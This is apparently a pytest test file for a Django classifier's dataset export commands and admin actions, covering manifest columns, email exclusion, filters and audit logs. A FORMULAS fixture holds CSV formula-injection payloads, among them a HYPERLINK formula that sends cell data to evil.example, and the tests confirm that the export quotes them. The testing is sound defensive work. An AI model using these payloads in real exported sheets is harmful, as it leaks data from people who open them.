"""Exports: the manifest (CSV, JSONL) and the ImageNet-folder archive Keras reads as is."""

import csv
import io
import json
import zipfile

import pytest
from django.contrib.admin.models import LogEntry
from django.contrib.auth.models import Permission
from django.core.management import call_command

from classifier.tests.page_helpers import make_prediction
from feedback.models import Feedback
from quality.tests.fixtures import review
from testing.photos import distinct_photo, photo_bytes

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("private_media")]


@pytest.fixture
def labelled(user, other_user):
    """Three labelled images in two classes, one unlabelled, one from another model."""
    right = make_prediction(user, content=distinct_photo(1))  # tiger_cat, said right
    Feedback.objects.create(user=user, prediction=right, is_correct=True)
    corrected = make_prediction(user, content=distinct_photo(2))
    Feedback.objects.create(user=user, prediction=corrected, is_correct=False, correct_label="lynx")
    reviewed = make_prediction(other_user, content=photo_bytes("astronaut"))
    review(reviewed, "lynx")
    unlabelled = make_prediction(user, content=distinct_photo(3))
    other_model = make_prediction(user, content=distinct_photo(4), model_name="efficientnet")
    Feedback.objects.create(user=user, prediction=other_model, is_correct=True)
    return {"right": right, "corrected": corrected, "reviewed": reviewed, "none": unlabelled}


def run_export(tmp_path, *args) -> str:
    target = tmp_path / "out"
    call_command("export_dataset", "--output", str(target), *args)
    return target.read_text() if "imagenet" not in args else str(target)


def test_csv_manifest_has_every_column_and_no_emails(tmp_path, labelled, user):
    text = run_export(tmp_path, "--format", "csv", "--model", "resnet50")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 4
    by_id = {row["prediction_id"]: row for row in rows}
    corrected = by_id[str(labelled["corrected"].pk)]
    assert corrected["user_verdict"] == "wrong"
    assert corrected["correct_label"] == corrected["label"] == "lynx"
    assert corrected["image_sha256"] == labelled["corrected"].image_sha256
    assert corrected["storage_name"] == labelled["corrected"].image.name
    assert json.loads(corrected["top5"])[0] == {"label": "tiger_cat", "score": 0.6213}
    assert by_id[str(labelled["reviewed"].pk)]["reviewed_label"] == "lynx"
    assert by_id[str(labelled["right"].pk)]["label"] == "tiger_cat"
    assert by_id[str(labelled["none"].pk)]["label"] == ""
    assert user.email not in text and "owner_email" not in text


def test_jsonl_filters_and_emails_on_request(tmp_path, labelled, user):
    lines = run_export(tmp_path, "--format", "jsonl", "--only-corrected", "--include-emails")
    rows = [json.loads(line) for line in lines.splitlines()]
    assert [row["prediction_id"] for row in rows] == [str(labelled["corrected"].pk)]
    assert rows[0]["owner_email"] == user.email
    lines = run_export(tmp_path, "--format", "jsonl", "--only-reviewed")
    assert [json.loads(line)["reviewed_label"] for line in lines.splitlines()] == ["lynx"]
    assert run_export(tmp_path, "--format", "jsonl", "--until", "2000-01-01") == ""


def test_manifest_streams_through_an_iterator(labelled, django_assert_num_queries):
    from quality import exports

    rows = exports.manifest_rows(exports.export_queryset(exports.ExportFilter()))
    assert not isinstance(rows, list)
    with django_assert_num_queries(1):  # one server-side cursor, read in chunks
        assert len(list(rows)) == 5


def test_admin_action_exports_the_selection_and_is_logged(client, labelled, make_user):
    staff = make_user(email="exporter@example.com", is_staff=True)
    staff.user_permissions.add(Permission.objects.get(codename="export_dataset"))
    client.force_login(staff)
    chosen = [str(labelled["corrected"].pk), str(labelled["reviewed"].pk)]
    response = client.post(
        "/admin/quality/datasetexport/",
        {"action": "export_imagenet", "_selected_action": chosen},
    )
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="dataset-')
    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as opened:
        assert len(opened.namelist()) == 2
    entry = LogEntry.objects.get()
    assert entry.user == staff
    assert "ImageNet-folder archive: 2 images" in entry.change_message

    response = client.post(
        "/admin/quality/datasetexport/", {"action": "export_csv", "_selected_action": chosen}
    )
    body = b"".join(response.streaming_content).decode()
    assert len(list(csv.DictReader(io.StringIO(body)))) == 2
    assert LogEntry.objects.count() == 2


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
]


@pytest.fixture
def formula_corrections(user):
    """One wrong-answer feedback per formula trigger, typed as the free-text correction."""
    for index, text in enumerate(FORMULAS):
        prediction = make_prediction(user, content=distinct_photo(10 + index))
        Feedback.objects.create(
            user=user, prediction=prediction, is_correct=False, other_label=text
        )


def test_csv_cells_that_start_a_formula_are_quoted_in_the_command(tmp_path, formula_corrections):
    run_export(tmp_path, "--format", "csv")
    with open(tmp_path / "out", newline="") as manifest:  # keep the carriage return as written
        rows = list(csv.DictReader(manifest))
    assert sorted(row["other_label"] for row in rows) == sorted("'" + text for text in FORMULAS)
    lines = run_export(tmp_path, "--format", "jsonl")  # JSON is not opened as a sheet
    assert sorted(json.loads(line)["other_label"] for line in lines.splitlines()) == sorted(
        FORMULAS
    )


def test_csv_cells_that_start_a_formula_are_quoted_in_the_admin_action(
    client, formula_corrections, make_user
):
    staff = make_user(email="=cmd@example.com", is_staff=True)
    staff.user_permissions.add(Permission.objects.get(codename="export_dataset"))
    client.force_login(staff)
    from classifier.models import Prediction

    chosen = [str(pk) for pk in Prediction.objects.values_list("pk", flat=True)]
    response = client.post(
        "/admin/quality/datasetexport/", {"action": "export_csv", "_selected_action": chosen}
    )
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert sorted(row["other_label"] for row in rows) == sorted("'" + text for text in FORMULAS)
    assert all(row["label"] == "" and row["model_name"] == "resnet50" for row in rows)
